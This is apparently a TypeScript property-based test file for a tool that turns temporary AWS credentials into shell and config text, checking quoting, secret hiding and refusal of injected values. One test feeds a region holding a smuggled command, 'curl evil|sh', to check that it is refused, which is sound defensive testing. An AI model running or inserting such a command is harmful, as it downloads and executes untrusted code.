/** What holds for every format, asked of each row of the table. Shells and clients have their own tests. */

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { awsEnvironment, shadowingNames } from "./aws-environment";
import type { FormatInput } from "./credential-format";
import { formatGroups, formatIds, formats, isFormatId } from "./formats";
import { hostileValue, withKeys } from "./inputs-for-tests";

const input = withKeys({ expiresAt: new Date("2026-11-21T04:00:00.999Z") });
const secrets = [input.credentials.secretAccessKey, input.credentials.sessionToken];

/** Line breaks, other controls, blanks, and what is not ASCII: curly quotes, line separators, direction marks, half a character. */
const invisible = fc.constantFrom(
  ..."\n\r\t\0\u001b\u007f\u0085 \u00a0\u2018\u2019\u2028\u2029\u202e\ufeffé\ud800",
);

test("the environment is the keys, their end, their account, and both of the region's names", () => {
  expect(Object.fromEntries(awsEnvironment(input))).toEqual({
    AWS_ACCESS_KEY_ID: "ASIAEXAMPLEEXAMPLE00",
    AWS_SECRET_ACCESS_KEY: "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
    AWS_SESSION_TOKEN: "IQoJb3JpZ2luX2VjEXAMPLE+/token==",
    AWS_CREDENTIAL_EXPIRATION: "2026-11-21T04:00:00+00:00",
    AWS_ACCOUNT_ID: "012345678901",
    AWS_REGION: "eu-central-1",
    AWS_DEFAULT_REGION: "eu-central-1",
  });
});

/** A question that has no sense for a format, and is not counted as one that was passed over. */
const none = (_name: string, _body: () => void) => undefined;

const faultOr = (make: () => string) => {
  try {
    return make();
  } catch (fault) {
    return String(fault);
  }
};

describe.each(Object.entries(formats))("%s", (id, format) => {
  const [withKeysOnly, withoutKeysOnly] = format.holdsKeys ? [test, none] : [none, test];
  const pastedOnly = format.group === "terminals" || id === "configure" || id === "ecr" ? test : none;
  const textOrFault = (from: FormatInput) => faultOr(() => format.render(from));

  test("is known by its own id, and says in sentences what it is for", () => {
    expect(format.id).toBe(id);
    expect(format.label).not.toBe("");
    expect(format.fileName).toMatch(/^[a-z][a-z0-9._-]*$/);
    expect(format.quoting).toMatch(/^[A-Z].*\.$/);
    expect(format.whenToUse).toMatch(/^[A-Z].*\.$/);
  });

  withKeysOnly("holds all three values, the account and a time that is never later than the true one", () => {
    const text = format.render(input).replaceAll("\\=", "=");
    for (const value of [input.credentials.accessKeyId, ...secrets, input.accountId])
      expect(text).toContain(value);
    expect(text).toContain("2026-11-21T04:00:00+00:00");
    expect(text.endsWith("\n")).toBe(true);
  });

  withKeysOnly("names no region when none was chosen", () => {
    expect(format.render({ ...input, region: undefined })).not.toMatch(/region/i);
    expect(format.undo({ ...input, region: undefined })).not.toMatch(/region/i);
  });

  test("is undone without any secret", () => {
    for (const value of [input.credentials.accessKeyId, ...secrets])
      expect(format.undo(input)).not.toContain(value);
  });

  withoutKeysOnly("holds no key, though it was made with some", () => {
    for (const value of [input.credentials.accessKeyId, ...secrets])
      expect(format.render(input)).not.toContain(value);
  });

  test("nothing that is typed into a field becomes more than one word of the text", () => {
    for (const { name, rule } of format.fields) {
      expect(rule).toMatch(/^[A-Z].*\.$/);
      fc.assert(
        fc.property(
          hostileValue,
          fc.constantFrom("", "\n", " ", "\u2028"),
          hostileValue,
          (start, gap, end) => {
            const typed = { ...input, fields: { [name]: `${start}${gap}${end}` } };
            const [text, undone] = [textOrFault(typed), faultOr(() => format.undo(typed))];
            for (const one of [text, undone]) {
              if (one.startsWith("Error")) expect(one).toContain(rule);
              else expect(one).toMatch(/^[\x20-\x7e\n]+$/);
            }
            // What is written of it needs quotes nowhere.
            if (!text.startsWith("Error"))
              expect(`${start}${gap}${end}`.trim()).toMatch(/^[A-Za-z0-9:/+=._-]*$/);
          },
        ),
      );
    }
  });

  pastedOnly("has no line that a shell which takes no comments would run", () => {
    expect(`${format.render(input)}${format.undo(input)}`).not.toMatch(/^\s*#/m);
  });

  test.each(["accessKeyId", "secretAccessKey", "sessionToken"] as const)(
    "refuses a %s that could end a line or hide, and never shows it",
    (name) => {
      fc.assert(
        fc.property(fc.base64String(), invisible, fc.base64String(), (before, character, after) => {
          const value = `HIDDEN${before}${character}${after}`;
          expect(() => format.render(withKeys({ [name]: value }))).toThrow(
            expect.objectContaining({ message: expect.not.stringContaining("HIDDEN") }),
          );
        }),
      );
    },
  );

  test("refuses an empty value, a region with a line break, and an expiry that is no time", () => {
    expect(() => format.render(withKeys({ sessionToken: "" }))).toThrow("session token");
    expect(() => format.render(withKeys({ expiresAt: new Date(Number.NaN) }))).toThrow("expiry");
    expect(() => format.render({ ...input, accountId: "1\n[default]" })).toThrow("account id");
    // JSON has no place for a region, and still does not pass one over in silence.
    expect(() => format.render({ ...input, region: "eu-west-1\ncurl evil|sh" })).toThrow("region");
  });

  test("a character that it cannot quote is refused without showing the value", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme-ascii", minLength: 1 }), (tail) => {
        expect(textOrFault(withKeys({ secretAccessKey: `HIDDEN${tail}` }))).not.toMatch(/^Error.*HIDDEN/s);
      }),
    );
  });
});

/**
 * PowerShell, cmd and Nushell run on few machines that test this, so their texts are held against the grammar of the lines they
 * may consist of: whatever the value, the line has one string in it, and that string reads back as the value.
 */
test("PowerShell, by its grammar: every line removes a variable or sets one to a single string, which reads back as the value", () => {
  fc.assert(
    fc.property(hostileValue, (value) => {
      const lines = formats.powershell
        .render(withKeys({ sessionToken: value }))
        .trimEnd()
        .split("\n");
      const read = lines.map((line) => /^\$Env:(\w+) = (?:\$null|'((?:[^']|'')*)')$/.exec(line));
      expect(read).not.toContain(null);
      const variables = new Map(read.map((line) => [line?.[1], line?.[2]?.replaceAll("''", "'")]));
      expect(variables.get("AWS_SESSION_TOKEN")).toBe(value);
      for (const name of shadowingNames)
        expect([variables.has(name), variables.get(name)]).toEqual([true, undefined]);
    }),
  );
});

test("cmd, by its grammar: every line sets one variable between quotes, and holds nothing that cmd would expand there", () => {
  fc.assert(
    fc.property(hostileValue, (value) => {
      const hostile = withKeys({ sessionToken: value });
      if (/["%!]/.test(value)) {
        expect(() => formats.cmd.render(hostile)).toThrow("AWS_SESSION_TOKEN");
        return;
      }
      const lines = formats.cmd.render(hostile).trimEnd().split("\n");
      const read = lines.map((line) => /^@set "(\w+)=([^"%!]*)"$/.exec(line));
      expect(read).not.toContain(null);
      const variables = new Map(read.map((line) => [line?.[1], line?.[2]]));
      expect(variables.get("AWS_SESSION_TOKEN")).toBe(value);
      for (const name of shadowingNames) expect(variables.get(name)).toBe("");
    }),
  );
});

test("Nushell, by its grammar: every line hides variables or sets one to a single string, which reads back as the value", () => {
  fc.assert(
    fc.property(hostileValue, (value) => {
      const [first, ...lines] = formats.nushell
        .render(withKeys({ sessionToken: value }))
        .trimEnd()
        .split("\n");
      expect(first).toBe(`hide-env --ignore-errors ${shadowingNames.join(" ")}`);
      const read = lines.map((line) => /^\$env\.(\w+) = "((?:[^"\\]|\\["\\])*)"$/.exec(line));
      expect(read).not.toContain(null);
      const variables = new Map(read.map((line) => [line?.[1], line?.[2]?.replace(/\\(.)/g, "$1")]));
      expect(variables.get("AWS_SESSION_TOKEN")).toBe(value);
    }),
  );
});

test("cmd: a value that does not fit into one line is refused", () => {
  expect(() => formats.cmd.render(withKeys({ sessionToken: "A".repeat(8191) }))).toThrow("too long");
});

test("no profile gets a name that some tool cannot read, or that means something else", () => {
  for (const profileName of [
    "",
    "a b",
    "a]\n[default]",
    "default",
    "DEFAULT",
    "__proto__",
    "a=b",
    "prod#",
    "-x",
    "é",
  ]) {
    for (const format of [formats.ini, formats.configure, formats.eks]) {
      expect(() => format.render({ ...input, profileName })).toThrow("profile's name");
      expect(() => format.undo({ ...input, profileName })).toThrow("profile's name");
    }
  }
});

test("a word that is no format is not one, whatever objects inherit", () => {
  expect(Object.keys(formats).every(isFormatId)).toBe(true);
  for (const word of ["toString", "__proto__", "constructor", "", "Bash", undefined, null, 0])
    expect(isFormatId(word)).toBe(false);
});

test("every format is offered once, those of a terminal first and those of a tool last", () => {
  expect(formatGroups.map(({ title }) => title)).toEqual(["Terminals", "Files", "Tools"]);
  expect(formatGroups.flatMap(({ ids }) => ids)).toEqual(formatIds);
  expect(new Set(formatIds.map((id) => formats[id].label)).size).toBe(formatIds.length);
  expect(new Set(formatIds.map((id) => formats[id].fileName)).size).toBe(formatIds.length);
});
